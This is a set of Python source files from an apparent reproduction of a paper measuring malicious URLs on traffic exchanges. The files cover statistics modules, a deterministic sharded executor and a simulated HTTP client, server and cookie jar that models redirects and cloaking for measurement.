    "compute_tld_distribution",
    "deceptive_download_case",
    "domains_on_multiple_exchanges",
    "example_chain",
    "flash_case_study",
    "identify_false_positives",
    "iframe_case_studies",
    "overall_malicious_fraction",
    "probe_rotating_redirector",
    "redirect_count_distribution",
]
