"""Per-exchange URL statistics (Table I) and malware ratios (Figure 2).

Counts crawled URL instances per exchange, splits out self-referrals and
popular referrals, and applies the scan verdicts to the regular
remainder — exactly the accounting behind Table I and the stacked bars
of Figure 2.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List, Optional

from ..crawler.storage import CrawlDataset, RecordKind
from ..crawler.pipeline import ScanOutcome

__all__ = ["ExchangeUrlStats", "compute_exchange_stats", "overall_malicious_fraction"]


@dataclass
class ExchangeUrlStats:
    """One row of Table I."""

    exchange: str
    kind: str
    urls_crawled: int = 0
    self_referrals: int = 0
    popular_referrals: int = 0
    regular_urls: int = 0
    malicious_urls: int = 0

    @property
    def benign_urls(self) -> int:
        return self.regular_urls - self.malicious_urls

    @property
    def malicious_fraction(self) -> float:
        if self.regular_urls == 0:
            return 0.0
        return self.malicious_urls / self.regular_urls


def compute_exchange_stats(
    dataset: CrawlDataset,
    outcome: ScanOutcome,
    exchange_kinds: Optional[Dict[str, str]] = None,
) -> List[ExchangeUrlStats]:
    """Build Table I rows from the crawl dataset and scan verdicts."""
    rows: Dict[str, ExchangeUrlStats] = {}
    for record in dataset.records:
        row = rows.get(record.exchange)
        if row is None:
            kind = (exchange_kinds or {}).get(record.exchange, "")
            row = ExchangeUrlStats(exchange=record.exchange, kind=kind)
            rows[record.exchange] = row
        row.urls_crawled += 1
        if record.kind == RecordKind.SELF_REFERRAL:
            row.self_referrals += 1
        elif record.kind == RecordKind.POPULAR_REFERRAL:
            row.popular_referrals += 1
        else:
            row.regular_urls += 1
            if outcome.is_malicious(record.url):
                row.malicious_urls += 1
    return list(rows.values())


def overall_malicious_fraction(rows: List[ExchangeUrlStats]) -> float:
    """The paper's headline: malicious / regular across all exchanges."""
    regular = sum(r.regular_urls for r in rows)
    malicious = sum(r.malicious_urls for r in rows)
    return malicious / regular if regular else 0.0
