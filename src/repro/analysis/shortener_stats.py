"""Malicious shortened URL statistics (Table IV).

For every malicious shortened URL seen in the crawl, query the
shortening service's public statistics: hits on the short URL, aggregate
hits on the long URL (several slugs may alias it), the top visitor
country, and the top referrer — the columns of Table IV.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Set

from ..crawler.pipeline import ScanOutcome
from ..crawler.storage import CrawlDataset, RecordKind
from ..simweb.registry import WebRegistry
from ..simweb.url import Url

__all__ = ["ShortUrlRow", "compute_shortener_stats"]


@dataclass
class ShortUrlRow:
    """One Table IV row."""

    short_url: str
    short_hits: int
    long_url: str
    long_hits: int
    top_country: str
    top_referrer: str


def compute_shortener_stats(
    dataset: CrawlDataset,
    outcome: ScanOutcome,
    registry: WebRegistry,
) -> List[ShortUrlRow]:
    """Build Table IV from the crawl and the services' public stats."""
    rows: List[ShortUrlRow] = []
    seen: Set[str] = set()
    directory = registry.shorteners
    for record in dataset.records:
        if record.kind != RecordKind.REGULAR:
            continue
        if record.url in seen:
            continue
        parsed = Url.try_parse(record.url)
        if parsed is None or not directory.is_short_host(parsed.host):
            continue
        seen.add(record.url)
        if not outcome.is_malicious(record.url):
            continue
        service = directory.service(parsed.host)
        slug = parsed.path.lstrip("/")
        stats = service.stats(slug)
        if stats is None:
            continue
        rows.append(ShortUrlRow(
            short_url=record.url,
            short_hits=stats.hits,
            long_url=stats.long_url,
            long_hits=service.long_url_hits(stats.long_url),
            top_country=stats.top_country,
            top_referrer=stats.top_referrer,
        ))
    rows.sort(key=lambda row: row.short_hits, reverse=True)
    return rows
