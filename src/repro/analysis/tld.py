"""TLD distribution of malicious URLs (Figure 6)."""

from __future__ import annotations

from collections import Counter
from dataclasses import dataclass, field
from typing import List, Tuple

from ..crawler.pipeline import ScanOutcome
from ..crawler.storage import CrawlDataset, RecordKind
from ..simweb.url import Url

__all__ = ["TldDistribution", "compute_tld_distribution"]


@dataclass
class TldDistribution:
    """Share of malicious URLs per top-level domain."""

    counts: Counter = field(default_factory=Counter)

    @property
    def total(self) -> int:
        return sum(self.counts.values())

    def percentage(self, tld: str) -> float:
        return 100.0 * self.counts.get(tld, 0) / self.total if self.total else 0.0

    def top(self, n: int = 4) -> List[Tuple[str, float]]:
        return [(tld, self.percentage(tld)) for tld, _ in self.counts.most_common(n)]

    def others_percentage(self, top_n: int = 4) -> float:
        top_share = sum(share for _tld, share in self.top(top_n))
        return max(0.0, 100.0 - top_share)


def compute_tld_distribution(dataset: CrawlDataset, outcome: ScanOutcome,
                             distinct: bool = False) -> TldDistribution:
    """Histogram malicious URLs by TLD (instances by default)."""
    result = TldDistribution()
    seen = set()
    for record in dataset.records:
        if record.kind != RecordKind.REGULAR or not outcome.is_malicious(record.url):
            continue
        if distinct:
            if record.url in seen:
                continue
            seen.add(record.url)
        parsed = Url.try_parse(record.url)
        if parsed is None:
            continue
        result.counts[parsed.tld] += 1
    return result
