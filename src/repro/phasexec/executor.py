"""The phase-agnostic parallel executor template.

:class:`PhaseExecutor` captures the shape every deterministic fan-out
phase in this repo shares:

1. **prepare** (main thread) — partition the workload, run anything
   that must stay ordered against shared state, snapshot whatever the
   merge step needs,
2. **shard** (main thread) — split the parallelisable remainder along a
   state-isolation boundary (registrable domain for scans, exchange for
   crawls),
3. **fan out** — each shard runs on a worker from an injectable pool
   against shard-confined state built on the main thread, buffering
   telemetry into a :class:`~repro.phasexec.recording.RecordingObserver`,
4. **merge** (main thread) — fold shard results back in original
   workload order and replay telemetry buffers in shard-index order, so
   a parallel run is bit-identical to ``workers=1`` for a fixed seed.

Subclasses fill in the hooks; the template owns pool lifecycle, buffer
allocation, and future collection order.  Speedup is accounted on the
simulated clock via :func:`list_schedule_makespan` — the GIL keeps
wall-clock threading gains modest for CPU-bound simulation, but the
quantity a production deployment cares about is makespan with service
round-trips (or independent crawler browsers) overlapped across
workers, and that model is deterministic.
"""

from __future__ import annotations

from concurrent.futures import ThreadPoolExecutor
from typing import Callable, List, Optional, Sequence, Tuple

from .recording import RecordingObserver

__all__ = ["InlineExecutor", "PhaseExecutor", "list_schedule_makespan"]


class _ImmediateFuture:
    """The result of an :class:`InlineExecutor` submission."""

    def __init__(self, value: object = None, error: Optional[BaseException] = None) -> None:
        self._value = value
        self._error = error

    def result(self) -> object:
        if self._error is not None:
            raise self._error
        return self._value


class InlineExecutor:
    """Pool-API-compatible executor that runs submissions inline.

    Injectable stand-in for :class:`ThreadPoolExecutor` when a test
    wants the parallel code path — sharding, per-shard state, buffer
    replay, merge — without any actual threads.
    """

    def __init__(self, max_workers: int = 1) -> None:
        self.max_workers = max_workers
        self.submitted = 0

    def submit(self, fn: Callable, *args: object, **kwargs: object) -> _ImmediateFuture:
        self.submitted += 1
        try:
            return _ImmediateFuture(value=fn(*args, **kwargs))
        except BaseException as error:  # re-raised from .result(), like a real pool
            return _ImmediateFuture(error=error)

    def __enter__(self) -> "InlineExecutor":
        return self

    def __exit__(self, *exc_info: object) -> None:
        pass


def list_schedule_makespan(stats: Sequence[object], workers: int) -> float:
    """Makespan of shards list-scheduled onto ``workers`` slots.

    Shards are dispatched in index order to the earliest-free worker —
    exactly what a thread pool does, computed on the simulated clock so
    the figure is deterministic.  Each item needs ``busy_seconds`` and
    writable ``worker`` / ``start_seconds`` attributes; as a side effect
    every shard learns its worker slot and start offset, which the
    Chrome-trace exporter draws the per-worker tracks from.
    """
    free = [0.0] * workers
    for shard in stats:
        slot = min(range(workers), key=lambda i: (free[i], i))
        shard.worker = slot
        shard.start_seconds = free[slot]
        free[slot] += shard.busy_seconds
    return max(free) if stats else 0.0


class PhaseExecutor:
    """Template method for a deterministic sharded phase executor.

    Parameters
    ----------
    workers:
        Worker-pool width; also the divisor for the simulated makespan.
    shards_per_worker:
        Shard granularity.  More shards than workers lets list
        scheduling smooth out uneven shards at a small batching cost.
    pool_factory:
        ``pool_factory(workers)`` must return a context manager with
        ``submit(fn, *args) -> future``; defaults to
        :class:`ThreadPoolExecutor`, with :class:`InlineExecutor` as the
        deterministic in-process alternative.
    """

    #: phase label on live-telemetry shard records (subclass override)
    phase_name = "phase"

    def __init__(self, workers: int = 4, shards_per_worker: int = 2,
                 pool_factory: Optional[Callable[[int], object]] = None) -> None:
        if workers < 1:
            raise ValueError("workers must be >= 1 (got %d)" % workers)
        self.workers = workers
        self.shards_per_worker = max(1, shards_per_worker)
        self.pool_factory = pool_factory

    # -- hooks (subclass responsibility) --------------------------------------
    def prepare(self, workload: object, context: object,
                observer: Optional[object]) -> object:
        """Main-thread setup before sharding; returns opaque state."""
        return None

    def shard(self, workload: object, context: object, state: object) -> List[object]:
        """Split the parallelisable workload into shard descriptors."""
        raise NotImplementedError

    def shard_state(self, shard: object, buffer: Optional[RecordingObserver],
                    context: object, state: object) -> object:
        """Build one shard's confined state (main thread, pre-submit)."""
        return None

    def run_shard(self, shard: object, shard_state: object) -> object:
        """Execute one shard (worker thread; touch only shard state)."""
        raise NotImplementedError

    def merge(self, workload: object, context: object, state: object,
              shards: List[object], results: List[object],
              buffers: List[Optional[RecordingObserver]],
              observer: Optional[object]) -> object:
        """Fold shard results back in order; returns the execution."""
        raise NotImplementedError

    def shard_label(self, shard: object) -> str:
        """Human label for one shard on live-telemetry records."""
        return str(getattr(shard, "index", ""))

    def shard_units(self, shard: object) -> int:
        """Work-unit count for one shard on live-telemetry records."""
        return 0

    # -- the template ---------------------------------------------------------
    def execute(self, workload: object, context: object,
                observer: Optional[object] = None) -> object:
        state = self.prepare(workload, context, observer)
        shards = self.shard(workload, context, state)
        buffers: List[Optional[RecordingObserver]] = []
        jobs = []
        for shard in shards:
            buffer = RecordingObserver() if observer is not None else None
            buffers.append(buffer)
            jobs.append((shard, self.shard_state(shard, buffer, context, state)))
        # shard lifecycle goes straight to live telemetry from the main
        # thread, bracketing the fan-out in index order: the shared clock
        # only advances after the join, so a healthy pool never trips the
        # stall watchdog, while a shard that outlives the run's simulated
        # progress shows up as still-running from its start timestamp
        live = getattr(observer, "live", None)
        if live is not None:
            for position, shard in enumerate(shards):
                live.shard_started(self.phase_name,
                                   index=getattr(shard, "index", position),
                                   label=self.shard_label(shard),
                                   units=self.shard_units(shard))
        results = self._fan_out(jobs)
        if live is not None:
            for position, shard in enumerate(shards):
                live.shard_finished(self.phase_name,
                                    index=getattr(shard, "index", position),
                                    label=self.shard_label(shard))
        return self.merge(workload, context, state, shards, results,
                          buffers, observer)

    def _fan_out(self, jobs: List[Tuple[object, object]]) -> List[object]:
        """Run every job on the pool; results in submission order."""
        if not jobs:
            return []
        factory = self.pool_factory or (lambda n: ThreadPoolExecutor(max_workers=n))
        with factory(self.workers) as pool:
            futures = [pool.submit(self.run_shard, shard, shard_state)
                       for shard, shard_state in jobs]
            return [future.result() for future in futures]

    def makespan(self, stats: Sequence[object]) -> float:
        """Deterministic list-scheduled makespan over this pool width."""
        return list_schedule_makespan(stats, self.workers)
