"""Phase-agnostic deterministic fan-out machinery.

``repro.scanexec`` (PR 3) proved out a recipe for making a pipeline
phase parallel *without* giving up bit-reproducibility: shard the
workload along a state-isolation boundary, run each shard on a worker
with thread-confined telemetry, then merge results and replay telemetry
in original workload order on the main thread.  This package hoists the
recipe into one reusable layer so every phase executor — scan
(``repro.scanexec``) and crawl (``repro.crawlexec``) — implements the
same :class:`PhaseExecutor` protocol instead of a bespoke code path:

* :class:`PhaseExecutor` — the template method: ``prepare`` →
  ``shard`` → fan out over an injectable pool → ``merge``,
* :class:`RecordingObserver` — the per-shard telemetry buffer replayed
  in shard-index order (op log plus a real metrics registry for
  handle-resolved counters),
* :class:`InlineExecutor` — the pool-API-compatible inline stand-in for
  deterministic no-thread testing,
* :func:`list_schedule_makespan` — the deterministic simulated-makespan
  model shared by every phase's speedup accounting.
"""

from .executor import (
    InlineExecutor,
    PhaseExecutor,
    list_schedule_makespan,
)
from .recording import RecordingObserver

__all__ = [
    "InlineExecutor",
    "PhaseExecutor",
    "RecordingObserver",
    "list_schedule_makespan",
]
