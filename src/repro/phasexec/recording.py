"""Per-shard observer buffering for deterministic telemetry merges.

The :class:`~repro.obs.metrics.MetricsRegistry` is deliberately
lock-free, so worker threads must never write to the run observer
directly.  Each shard instead records its telemetry into a thread-
confined :class:`RecordingObserver`; after the pool joins, the executor
replays every buffer into the real observer *in shard-index order* on
the main thread.  Counter and histogram totals are order-independent
sums, and the only gauges written off the main thread are high-water
marks (``gauge_max``), so the replayed registry is value-identical to a
serial run.

Two write paths feed a buffer:

* the **op log** — ``count`` / ``observe`` / ``event`` / ``work`` /
  frame pushes buffered as calls and re-dispatched by :meth:`replay`,
* the **registry** — hot loops (the simulated HTTP client, browser
  sessions, per-step crawl counters) resolve metric handles once via
  ``observer.metrics.counter(...)`` and bump ``.value`` directly,
  bypassing any hook.  The buffer therefore carries a real
  :class:`~repro.obs.metrics.MetricsRegistry`; replay folds it into the
  target's registry with
  :meth:`~repro.obs.metrics.MetricsRegistry.merge_from` before
  re-dispatching the op log.
"""

from __future__ import annotations

from contextlib import contextmanager
from typing import Iterator, List, Optional, Tuple

from ..obs.metrics import MetricsRegistry

__all__ = ["RecordingObserver"]

#: one buffered call: (method, name, value, labels/fields)
_Op = Tuple[str, str, float, Tuple[Tuple[str, object], ...]]


class RecordingObserver:
    """Observer-compatible buffer, confined to one shard's worker.

    Implements the :class:`~repro.obs.observer.RunObserver` hook surface
    the scan and crawl call trees use (``count`` / ``gauge_set`` /
    ``gauge_max`` / ``observe`` / ``event`` / ``span`` plus the
    ``metrics`` handle registry).  Spans yield ``None`` — worker
    wall-time is accounted by the executor's shard stats, not by
    interleaved tracer writes.
    """

    def __init__(self) -> None:
        self.ops: List[_Op] = []
        #: handle-resolved metrics land here (merged on replay)
        self.metrics = MetricsRegistry(record_observations=True)

    def __bool__(self) -> bool:
        return True

    # -- buffered hooks ------------------------------------------------------
    def count(self, name: str, amount: float = 1.0, **labels: object) -> None:
        self.ops.append(("count", name, amount, tuple(labels.items())))

    def gauge_set(self, name: str, value: float, **labels: object) -> None:
        self.ops.append(("gauge_set", name, value, tuple(labels.items())))

    def gauge_max(self, name: str, value: float, **labels: object) -> None:
        self.ops.append(("gauge_max", name, value, tuple(labels.items())))

    def observe(self, name: str, value: float, **labels: object) -> None:
        self.ops.append(("observe", name, value, tuple(labels.items())))

    def heartbeat(self, phase: str, **fields: object) -> None:
        # buffered like any other op: the live layer samples metrics at
        # dispatch time, and replay runs *after* this buffer's registry
        # merge, so replayed heartbeats see the same counter totals the
        # serial loop would have at the same point
        self.ops.append(("heartbeat", phase, 0.0, tuple(fields.items())))

    def event(self, kind: str, **fields: object) -> None:
        self.ops.append(("event", kind, 0.0, tuple(fields.items())))

    @contextmanager
    def span(self, name: str, **attrs: object) -> Iterator[None]:
        yield None

    # -- work profiling ------------------------------------------------------
    # Buffered unconditionally (the worker cannot know whether the real
    # observer profiles); :meth:`RunObserver.work` is a no-op when it does
    # not, so replay stays free on unprofiled runs.  Because replay happens
    # in shard-index order on the main thread *inside* the executor's open
    # pipeline frames, the reconstructed frame stacks — and therefore the
    # WorkLedger — are bit-identical to a serial run.
    def work(self, kind: str, amount: float = 1.0) -> None:
        self.ops.append(("work", kind, amount, ()))

    @contextmanager
    def frame(self, name: str) -> Iterator[None]:
        self.frame_push(name)
        try:
            yield
        finally:
            self.frame_pop()

    def frame_push(self, name: str) -> None:
        self.ops.append(("frame_push", name, 0.0, ()))

    def frame_pop(self) -> None:
        self.ops.append(("frame_pop", "", 0.0, ()))

    # -- merge ---------------------------------------------------------------
    def replay(self, observer: Optional[object]) -> None:
        """Apply everything buffered to ``observer`` (main thread only).

        The handle registry merges first, then the op log re-dispatches;
        final totals are order-independent, so the split never shows.
        """
        if observer is None:
            return
        target_metrics = getattr(observer, "metrics", None)
        if target_metrics is not None:
            target_metrics.merge_from(self.metrics)
        for method, name, value, items in self.ops:
            kwargs = dict(items)
            if method == "count":
                observer.count(name, value, **kwargs)
            elif method == "gauge_set":
                observer.gauge_set(name, value, **kwargs)
            elif method == "gauge_max":
                observer.gauge_max(name, value, **kwargs)
            elif method == "observe":
                observer.observe(name, value, **kwargs)
            elif method == "heartbeat":
                observer.heartbeat(name, **kwargs)
            elif method == "event":
                observer.event(name, **kwargs)
            elif method == "work":
                observer.work(name, value)
            elif method == "frame_push":
                observer.frame_push(name)
            elif method == "frame_pop":
                observer.frame_pop()
