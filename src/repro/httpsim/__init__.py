"""HTTP simulation layer: messages, server farm, client, HAR capture.

Stands in for the live HTTP(S) traffic the paper captured with Firebug +
NetExport::

    from repro.httpsim import SimHttpServer, SimHttpClient, HarLog

    server = SimHttpServer(registry)
    client = SimHttpClient(server)
    result = client.fetch("http://example.com/", referrer="http://exchange/")
"""

from .client import FetchResult, SimHttpClient
from .cookies import Cookie, CookieJar
from .har import HarEntry, HarLog
from .message import HttpRequest, HttpResponse, STATUS_REASONS
from .server import SimHttpServer

__all__ = [
    "Cookie",
    "CookieJar",
    "FetchResult",
    "HarEntry",
    "HarLog",
    "HttpRequest",
    "HttpResponse",
    "STATUS_REASONS",
    "SimHttpClient",
    "SimHttpServer",
]
