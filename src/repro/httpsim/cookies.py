"""HTTP cookie jar.

Exchanges track logged-in surf sessions with cookies; ad networks and
trackers set theirs from sub-resources.  The jar implements the subset
of RFC 6265 the simulation needs: ``Set-Cookie`` parsing with Domain /
Path / Max-Age / Expires attributes, host-only vs domain cookies,
longest-path-first ``Cookie`` header assembly, and expiry.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List, Optional, Tuple

from ..simweb.url import Url

__all__ = ["Cookie", "CookieJar"]


@dataclass
class Cookie:
    """One stored cookie."""

    name: str
    value: str
    domain: str
    path: str = "/"
    host_only: bool = True
    #: absolute expiry on the jar's clock; None = session cookie
    expires_at: Optional[float] = None

    def matches(self, url: Url, now: float) -> bool:
        if self.expires_at is not None and now >= self.expires_at:
            return False
        host = url.host
        if self.host_only:
            if host != self.domain:
                return False
        else:
            if host != self.domain and not host.endswith("." + self.domain):
                return False
        path = url.path or "/"
        if not path.startswith(self.path):
            return False
        if len(path) > len(self.path) and not self.path.endswith("/") and path[len(self.path)] != "/":
            return False
        return True


class CookieJar:
    """Stores cookies and builds request headers."""

    def __init__(self) -> None:
        self._cookies: Dict[Tuple[str, str, str], Cookie] = {}
        self.clock = 0.0

    def __len__(self) -> int:
        return len(self._cookies)

    def advance(self, seconds: float) -> None:
        """Move the jar's clock (expiry is relative to it)."""
        self.clock += seconds

    # ------------------------------------------------------------------
    def store(self, url: Url, set_cookie_header: str) -> Optional[Cookie]:
        """Parse one ``Set-Cookie`` header value in the context of ``url``.

        Returns the stored cookie, or None when the header is rejected
        (malformed, or a Domain attribute outside the origin).
        """
        parts = [p.strip() for p in set_cookie_header.split(";")]
        if not parts or "=" not in parts[0]:
            return None
        name, _, value = parts[0].partition("=")
        name = name.strip()
        if not name:
            return None

        domain = url.host
        host_only = True
        path = _default_path(url)
        expires_at: Optional[float] = None
        max_age: Optional[float] = None

        for attribute in parts[1:]:
            key, _, raw = attribute.partition("=")
            key = key.strip().lower()
            raw = raw.strip()
            if key == "domain" and raw:
                candidate = raw.lstrip(".").lower()
                # reject cookies for foreign domains
                if url.host != candidate and not url.host.endswith("." + candidate):
                    return None
                domain = candidate
                host_only = False
            elif key == "path" and raw.startswith("/"):
                path = raw
            elif key == "max-age":
                try:
                    max_age = float(raw)
                except ValueError:
                    continue
            elif key == "expires":
                # simulated servers send a bare relative-seconds value
                try:
                    expires_at = self.clock + float(raw)
                except ValueError:
                    continue

        if max_age is not None:  # Max-Age wins over Expires (RFC 6265)
            expires_at = self.clock + max_age

        cookie = Cookie(name=name, value=value, domain=domain, path=path,
                        host_only=host_only, expires_at=expires_at)
        key = (cookie.domain, cookie.path, cookie.name)
        if cookie.expires_at is not None and cookie.expires_at <= self.clock:
            self._cookies.pop(key, None)  # immediate expiry = deletion
            return None
        self._cookies[key] = cookie
        return cookie

    # ------------------------------------------------------------------
    def cookies_for(self, url: Url) -> List[Cookie]:
        """Cookies applicable to a request, longest path first."""
        matching = [c for c in self._cookies.values() if c.matches(url, self.clock)]
        matching.sort(key=lambda c: (-len(c.path), c.name))
        return matching

    def cookie_header(self, url: Url) -> str:
        """The ``Cookie`` request header value ("" when none apply)."""
        return "; ".join("%s=%s" % (c.name, c.value) for c in self.cookies_for(url))

    def get(self, url: Url, name: str) -> Optional[str]:
        for cookie in self.cookies_for(url):
            if cookie.name == name:
                return cookie.value
        return None

    def purge_expired(self) -> int:
        """Drop expired cookies; returns how many were removed."""
        expired = [
            key for key, cookie in self._cookies.items()
            if cookie.expires_at is not None and cookie.expires_at <= self.clock
        ]
        for key in expired:
            del self._cookies[key]
        return len(expired)


def _default_path(url: Url) -> str:
    path = url.path or "/"
    if path.count("/") <= 1:
        return "/"
    return path.rsplit("/", 1)[0] or "/"
