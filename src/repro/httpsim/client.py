"""The simulated HTTP client: redirect following and capture.

Follows HTTP 3xx, ``<meta http-equiv=refresh>``, and trivial JS
``window.location`` hops (the three mechanisms in the paper's Figure 4
chain), recording every transaction as a HAR entry.  The crawler and the
URL scanners both fetch through this client — with different referrer
policies, which is exactly what cloaked sites discriminate on.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from typing import List, Optional, Tuple

from ..obs.clock import Clock, SimClock
from ..simweb.url import Url
from .cookies import CookieJar
from .har import HarEntry
from .message import HttpRequest, HttpResponse
from .server import SimHttpServer

__all__ = ["FetchResult", "SimHttpClient"]

_META_REFRESH = re.compile(
    r"""<meta[^>]+http-equiv=["']?refresh["']?[^>]+content=["'][^"']*url=([^"'>]+)["']""",
    re.IGNORECASE,
)
_JS_LOCATION = re.compile(
    r"""window\.location(?:\.href)?\s*=\s*['"]([^'"]+)['"]"""
)


@dataclass
class FetchResult:
    """Outcome of a fetch with redirects followed."""

    request_url: str
    final_url: str
    response: HttpResponse
    hops: List[Tuple[str, str]] = field(default_factory=list)  # (from, to) with mechanism folded in
    mechanisms: List[str] = field(default_factory=list)
    entries: List[HarEntry] = field(default_factory=list)

    @property
    def redirect_count(self) -> int:
        return len(self.hops)

    @property
    def redirected(self) -> bool:
        """True when the initial and final URL differ (the paper's
        'suspicious redirection' trigger compares exactly these)."""
        return self.request_url.rstrip("/") != self.final_url.rstrip("/")


class SimHttpClient:
    """Fetches through a :class:`SimHttpServer`, following redirects."""

    #: simulated cost of one request/response round trip (seconds)
    REQUEST_SECONDS = 0.05

    def __init__(self, server: SimHttpServer, max_redirects: int = 10,
                 follow_js_redirects: bool = True,
                 cookie_jar: Optional["CookieJar"] = None,
                 clock: Optional[Clock] = None,
                 observer: Optional[object] = None) -> None:
        self.server = server
        self.max_redirects = max_redirects
        self.follow_js_redirects = follow_js_redirects
        #: optional cookie jar: sends Cookie headers, stores Set-Cookie
        self.cookie_jar = cookie_jar
        #: capture clock (seconds); HAR entries and the tracer share it,
        #: so cross-layer timestamps never drift
        self.clock: Clock = clock if clock is not None else SimClock()
        #: optional :class:`repro.obs.RunObserver` (None = no-op hooks)
        self.observer = observer
        # metric handles resolved once — fetch() is the pipeline's hottest
        # loop and must not pay a registry lookup per request
        if observer is not None:
            metrics = observer.metrics
            self._requests_counter = metrics.counter("http.requests")
            self._status_counters = {
                status_class: metrics.counter(
                    "http.responses", status_class="%dxx" % status_class)
                for status_class in (2, 3, 4, 5)
            }
            self._fetch_seconds = metrics.histogram("http.fetch.seconds")
            self._redirect_hops = metrics.counter("http.redirect.hops")

    def _status_counter(self, status: int):
        status_class = status // 100
        counter = self._status_counters.get(status_class)
        if counter is None:
            counter = self._status_counters[status_class] = self.observer.metrics.counter(
                "http.responses", status_class="%dxx" % status_class)
        return counter

    def fetch(
        self,
        url: str,
        referrer: str = "",
        country: str = "US",
        page_ref: str = "",
    ) -> FetchResult:
        """GET ``url``; follow redirect mechanisms up to ``max_redirects``."""
        current = url
        current_referrer = referrer
        hops: List[Tuple[str, str]] = []
        mechanisms: List[str] = []
        entries: List[HarEntry] = []
        response: Optional[HttpResponse] = None
        observer = self.observer
        fetch_started = self.clock.now()
        body_bytes = 0

        for _ in range(self.max_redirects + 1):
            parsed = Url.try_parse(current)
            if parsed is None:
                response = HttpResponse.not_found()
                break
            request = HttpRequest.get(current, referrer=current_referrer, country=country)
            if self.cookie_jar is not None:
                header = self.cookie_jar.cookie_header(parsed)
                if header:
                    request.headers["Cookie"] = header
            response = self.server.handle(request)
            if self.cookie_jar is not None and "Set-Cookie" in response.headers:
                self.cookie_jar.store(parsed, response.headers["Set-Cookie"])
            if isinstance(self.clock, SimClock):
                self.clock.advance(self.REQUEST_SECONDS)
            if self.cookie_jar is not None:
                self.cookie_jar.advance(self.REQUEST_SECONDS)
            entries.append(
                HarEntry.from_transaction(
                    request, response,
                    started=self.clock.now(),
                    duration_ms=self.REQUEST_SECONDS * 1000.0,
                    page_ref=page_ref,
                )
            )
            if observer is not None:
                # hot loop: bump the counter slots directly rather than
                # paying two method calls per request
                self._requests_counter.value += 1.0
                try:
                    self._status_counters[response.status // 100].value += 1.0
                except KeyError:
                    self._status_counter(response.status).inc()
                body_bytes += len(response.body)
            next_url = self._next_hop(parsed, response)
            if next_url is None:
                break
            hops.append((current, next_url))
            mechanisms.append(self._mechanism(response))
            current_referrer = current
            current = next_url
        assert response is not None
        if observer is not None:
            if isinstance(self.clock, SimClock):
                # the simulated duration is *defined* as requests × unit
                # cost; computing it as a clock difference would pick up
                # accumulated rounding that differs between the serial
                # loop and a shard-local clock starting at zero
                self._fetch_seconds.observe(len(entries) * self.REQUEST_SECONDS)
            else:
                self._fetch_seconds.observe(self.clock.now() - fetch_started)
            if hops:
                self._redirect_hops.inc(len(hops))
            # batched per fetch: request/byte work for the profiler
            # (a single is-None test each when profiling is off)
            observer.work("http.requests", len(entries))
            observer.work("http.bytes", body_bytes)
        return FetchResult(
            request_url=url,
            final_url=current,
            response=response,
            hops=hops,
            mechanisms=mechanisms,
            entries=entries,
        )

    # ------------------------------------------------------------------
    def _next_hop(self, current: Url, response: HttpResponse) -> Optional[str]:
        if response.is_redirect:
            return str(current.join(response.location))
        if response.ok and "text/html" in response.content_type:
            text = response.text
            match = _META_REFRESH.search(text)
            if match:
                return str(current.join(match.group(1).strip()))
            if self.follow_js_redirects and len(text) < 4096:
                # only trivially-redirecting pages (the whole body is a
                # redirect stub) are followed at the HTTP layer; richer
                # pages get full JS analysis elsewhere
                js_match = _JS_LOCATION.search(text)
                if js_match and text.count("<") < 20:
                    return str(current.join(js_match.group(1).strip()))
        return None

    @staticmethod
    def _mechanism(response: HttpResponse) -> str:
        if response.is_redirect:
            return "http"
        if "refresh" in response.text.lower()[:2048]:
            return "meta"
        return "js"
