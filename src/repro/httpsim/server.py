"""The simulated web server farm.

Serves every request out of the :class:`~repro.simweb.registry.WebRegistry`,
enacting each site's :class:`~repro.simweb.site.ServerBehavior`:

* **redirect hops** — 302s or meta-refresh pages (Figure 4 chains),
* **rotating redirectors** — a different target per request (Figure 9),
* **cloaking** — a referrer-less fetch (how URL-submission scanners
  fetch) receives the benign decoy; browser-like traffic arriving from
  an exchange receives the real page (Section III, footnote 1),
* **shortener services** — slug resolution with hit/referrer/country
  accounting feeding Table IV.
"""

from __future__ import annotations

from typing import Dict, Optional

from ..simweb.registry import WebRegistry
from ..simweb.site import RedirectHop
from ..simweb.url import Url
from .message import HttpRequest, HttpResponse

__all__ = ["SimHttpServer"]

_META_REFRESH_TEMPLATE = (
    "<html><head><meta http-equiv=\"refresh\" content=\"0;url=%s\"></head>"
    "<body>Redirecting...</body></html>"
)


class SimHttpServer:
    """Resolves simulated requests against the registry."""

    def __init__(self, registry: WebRegistry,
                 observer: Optional[object] = None) -> None:
        self.registry = registry
        #: per-(host, path) round-robin counters for rotating redirectors
        self._rotation_counters: Dict[str, int] = {}
        #: request counter, handy for tests and stats
        self.requests_served = 0
        #: optional :class:`repro.obs.RunObserver` (None = no-op hooks);
        #: counter handles resolved once — handle() runs per request.
        #: No per-request counter here: ``requests_served`` above already
        #: counts every request, so only the rare outcomes get metrics
        self.observer = observer
        if observer is not None:
            metrics = observer.metrics
            self._shortener_counter = metrics.counter("http.server.shortener_resolutions")
            self._not_found_counter = metrics.counter("http.server.not_found")
            self._cloaked_counter = metrics.counter("http.server.cloaked_decoys")

    # ------------------------------------------------------------------
    def handle(self, request: HttpRequest) -> HttpResponse:
        """Serve one request."""
        self.requests_served += 1
        url = request.url
        observer = self.observer

        if self.registry.shorteners.is_short_host(url.host):
            if observer is not None:
                self._shortener_counter.inc()
            return self._handle_shortener(request)

        site = self.registry.site(url.host)
        if site is None:
            if observer is not None:
                self._not_found_counter.inc()
            return HttpResponse.not_found(url=url)

        behavior = site.behavior
        path = url.path

        rotation = behavior.rotating_redirects.get(path)
        if rotation:
            key = "%s|%s" % (url.host, path)
            index = self._rotation_counters.get(key, 0)
            self._rotation_counters[key] = index + 1
            return HttpResponse.redirect(rotation[index % len(rotation)], url=url)

        hop = behavior.redirects.get(path)
        if hop is not None:
            return self._serve_hop(hop, url)

        cloak = behavior.cloaked_paths.get(path)
        if cloak is not None and self._looks_like_scanner(request):
            if observer is not None:
                self._cloaked_counter.inc()
            return HttpResponse.html(cloak, url=url)

        page, resource = site.lookup(path)
        response: Optional[HttpResponse] = None
        if page is not None:
            response = HttpResponse.html(page.html, url=url)
        elif resource is not None:
            response = HttpResponse(
                status=200,
                headers={"Content-Type": resource.content_type},
                body=resource.body,
                url=url,
            )
        if response is None:
            return HttpResponse.not_found(url=url)
        set_cookie = behavior.set_cookies.get(path)
        if set_cookie is not None:
